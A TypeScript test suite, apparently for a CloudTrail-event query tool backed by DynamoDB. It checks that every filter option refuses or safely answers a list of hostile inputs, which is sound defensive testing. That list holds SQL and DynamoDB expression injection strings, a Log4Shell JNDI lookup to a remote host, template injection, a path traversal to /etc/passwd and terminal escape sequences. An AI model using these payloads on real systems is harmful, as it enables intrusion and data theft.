import type { EventFilter } from '../../core/queries/event-filter';
import { DEFAULT_SETTINGS } from '../../core/settings';
import { AskingCommands, rowsOf } from '../support/asking-commands';
import { bruteForce, type StoredTrailEvent } from '../support/brute-force';
import type { Finished } from '../support/command-line';
import { hostileRecords } from '../support/hostile-records';
import { eventsOf, storedEvents } from '../support/stored-events';
import { type RecordedCommands, startRecordedCommands } from './recorded-commands';

const LONG = 'x'.repeat(10_000);

/** What an attacker would have somebody paste, and what breaks programs that did not expect it. */
const HOSTILE: readonly string[] = [
  '',
  ' ',
  "'",
  '"',
  "' OR '1'='1",
  '`; DROP TABLE events; --',
  ')',
  '(',
  ':v0',
  '#at',
  '#at = :v0 OR attribute_exists(#at)',
  ':v0 OR begins_with(#stream, :v0)',
  `\${jndi:ldap://192.0.2.7/a}`,
  '{{7*7}}',
  '../../etc/passwd',
  '%00',
  '\0',
  'a\0b',
  '\n',
  '\u001b[2J\u001b]0;title\u0007',
  '\u202eevil',
  '\ufeff',
  '\ud800',
  'a\udfffb',
  'ü'.repeat(5_000),
  '😀'.repeat(2_600),
  LONG,
  '-',
  '--',
  '=',
  '==',
  '*',
  '\\*',
  '/',
  '#',
  '__proto__',
  'constructor',
  'undefined',
  'null',
  'NaN',
  '[object Object]',
  '-1',
  '0',
  '1e9',
  '99999999999999999999',
  '999999w',
  '0000-01-01T00:00:00+23:59',
  '9999-12-31T23:59:59-23:59',
  '0x7f.1',
  '1.2.3.4/99',
  's3://',
  's3:///',
  `s3://${LONG}`,
  `s3://b/${LONG}`,
  `s3://b/${LONG}*`,
  `s3://b/${'😀'.repeat(400)}*`,
  'arn:',
  'arn:aws:s3:::',
  `arn:aws:s3:::b/${LONG}`,
  'arn:aws:ses:::',
  'arn:aws:ses:eu-west-1:111122223333:identity/',
  `=${LONG}`,
  `111122223333:user/${LONG}`,
  `arn:aws:iam::111122223333:user/${LONG}`,
];

const RECORDS = hostileRecords(150, 9);
const STORED = storedEvents(eventsOf(RECORDS), [DEFAULT_SETTINGS]);

/** What each option asks for, where it takes a text as it is. */
const AS_IT_IS: Readonly<Record<string, (text: string) => EventFilter>> = {
  '--event-name': (eventName) => ({ eventName }),
  '--access-key': (accessKey) => ({ accessKey }),
  '--error-code': (errorCode) => ({ errorCode }),
  '--event-id': (eventId) => ({ eventId }),
  '--shared-event-id': (sharedEventId) => ({ sharedEventId }),
  '--in-region': (region) => ({ region }),
};

/** Those that read what is written: their answer is compared where it can be nothing. */
const READ_FIRST = [
  '--account',
  '--service',
  '--category',
  '--level',
  '--access',
  '--principal',
  '--resource',
  '--source-ip',
  '--since',
  '--until',
  '--next',
  '--limit',
  '--columns',
  '--output',
];

const EVENTS = ['events', '--output=jsonl', '--allow-scan', '--limit=1000'];
const idsOf = (stored: readonly StoredTrailEvent[]) => stored.map(({ event }) => event.eventId);

// biome-ignore lint/suspicious/noControlCharactersInRegex: it is what must not reach a terminal
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028-\u202e\ufeff]/;

/** Either an answer, or a line that says what is wrong with what was written; never more than that. */
function expectGraceful(written: string, { exitCode, err }: Finished): void {
  const shown = written.slice(0, 60);
  expect({ shown, exitCode, err: exitCode === 1 ? err : '' }).toEqual({
    shown,
    exitCode: exitCode === 2 ? 2 : 0,
    err: '',
  });
  expect({ shown, err }).toEqual({ shown, err: expect.not.stringMatching(/\n\s+at |TypeError/) });
  expect({ shown, err }).toEqual({ shown, err: expect.not.stringMatching(UNSAFE) });
  if (exitCode === 2)
    expect({ shown, err }).toEqual({ shown, err: expect.stringMatching(/\w{4}/) });
}

describe('over a store that refuses what DynamoDB refuses', () => {
  const commands = new AskingCommands(RECORDS);

  test.each(Object.entries(AS_IT_IS))(
    '%s finds what is called so, and nothing else',
    async (option, filterOf) => {
      for (const written of HOSTILE) {
        const finished = await commands.trailstore(...EVENTS, `${option}=${written}`);
        expectGraceful(written, finished);
        if (finished.exitCode !== 0) continue;
        const ids = rowsOf(finished).map(({ eventID }) => eventID);
        expect(ids).toEqual(idsOf(bruteForce(filterOf(written), STORED, 'newest first')));
      }
    },
  );

  test.each(READ_FIRST)('%s is refused, or answered', async (option) => {
    for (const written of HOSTILE) {
      expectGraceful(written, await commands.trailstore(...EVENTS, `${option}=${written}`));
    }
  });

  test.each(['--resource', '--principal'])(
    '%s of a hostile text finds no more than is called so',
    async (option) => {
      for (const written of HOSTILE.filter((text) => text.length > 3)) {
        const finished = await commands.trailstore(...EVENTS, `${option}=${written}`);
        expect({ written: written.slice(0, 60), rows: rowsOf(finished).length }).toEqual({
          written: written.slice(0, 60),
          rows: 0,
        });
      }
    },
  );

  test('all filters at once are no worse', async () => {
    for (const written of HOSTILE) {
      const words = Object.keys(AS_IT_IS).map((option) => `${option}=${written}`);
      expectGraceful(written, await commands.trailstore(...EVENTS, ...words));
    }
  });

  test.each(['object', 'identity', 'key', 'principal'])(
    '%s is refused, or answered',
    async (command) => {
      for (const written of HOSTILE) {
        expectGraceful(written, await commands.trailstore(command, '--', written));
      }
    },
  );

  test.each(['denied', 'summary'])('%s takes the same filters', async (command) => {
    for (const option of [...Object.keys(AS_IT_IS), '--resource', '--principal', '--source-ip']) {
      for (const written of HOSTILE) {
        const finished = await commands.trailstore(command, '--allow-scan', `${option}=${written}`);
        expectGraceful(written, finished);
      }
    }
  });

  test('an option that is no option is refused without its control characters', async () => {
    for (const written of HOSTILE.filter((text) => text !== '' && text !== '-')) {
      expectGraceful(written, await commands.trailstore(written));
      expectGraceful(written, await commands.trailstore('events', `--${written}`));
    }
  });
});

describe('over a server that speaks the DynamoDB API', () => {
  let commands: RecordedCommands;
  beforeAll(async () => {
    commands = await startRecordedCommands();
    expect(await commands.ingest(RECORDS)).toMatchObject({ exitCode: 0 });
  });
  afterAll(() => commands.close());

  test.each([...Object.keys(AS_IT_IS), '--resource', '--principal', '--source-ip'])(
    '%s is refused, or answered as it is in memory',
    async (option) => {
      const inMemory = new AskingCommands(RECORDS);
      for (const written of HOSTILE.filter((_, n) => n % 2 === 0)) {
        const words = [...EVENTS, `${option}=${written}`];
        const [finished, expected] = [
          await commands.run(...words),
          await inMemory.trailstore(...words),
        ];
        expectGraceful(written, finished);
        expect(rowsOf(finished).map(({ eventID }) => eventID)).toEqual(
          rowsOf(expected).map(({ eventID }) => eventID),
        );
      }
    },
  );

  test('no hostile text that an operating system hands over fails the built program', async () => {
    const written = HOSTILE.filter((text) => !text.includes('\0')).filter((_, n) => n % 6 === 0);
    const runs = written.map(async (text) => {
      expectGraceful(
        text,
        await commands.spawn(...EVENTS, `--resource=${text}`, `--event-id=${text}`),
      );
    });
    await Promise.all(runs);
  });
});
